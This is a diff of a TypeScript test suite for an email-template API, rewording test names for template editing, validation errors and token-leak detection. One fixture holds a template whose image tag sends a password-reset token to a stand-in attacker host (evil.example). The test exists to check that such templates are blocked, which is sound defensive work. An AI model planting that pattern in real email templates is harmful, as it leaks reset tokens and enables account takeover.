@@ -16,7 +16,7 @@ before(async () => {
 })
 after(() => t[Symbol.asyncDispose]())
 
-test('200: a template is rewritten, used by the next mail to the caller alone, and reset', async () => {
+test('200: a template is changed, used for an email to the caller only, and reset', async () => {
   const { body } = await root.get(all)
   const builtIn = body.templates.find(({ name }: { name: string }) => name === 'welcome')
   assert.deepEqual([builtIn.isChanged, builtIn.variables], [false, ['name', 'url']])
@@ -38,7 +38,7 @@ test('200: a template is rewritten, used by the next mail to the caller alone, a
   assert.deepEqual([reset.body.isChanged, reset.body.subject], [false, builtIn.subject])
 })
 
-test('400: an unknown variable and a template without its token are refused at their place', async () => {
+test('400: an unknown variable and a template without its token are rejected with their paths', async () => {
   const parts = { subject: 'Hi', html: '{{name}} {{planet}}', text: 'Hi' }
   const bad = await root.post(welcome, parts)
   assert.deepEqual([bad.status, bad.body.errors[0].path, bad.body.errors[0].code], [400, '/html', 'unknown_variable'])
@@ -48,7 +48,7 @@ test('400: an unknown variable and a template without its token are refused at t
   assert.equal((await root.get(`${all}/nothing`)).body.code, 'mail_template_not_found')
 })
 
-test('a stored template that would give a token away is set aside at an upgrade, and an alert says so until it is reset', async () => {
+test('a stored template that would leak a token is ignored after an upgrade, and an alert reports it until it is reset', async () => {
   const html = '<p>{{token}}</p><img src="https://evil.example/{{token}}">'
   const old = { name: 'reset-password', subject: 'Old', text: '{{token}}', html, updatedAt: t.now() }
   await t.db.insertInto('mailTemplate').values(old).execute()
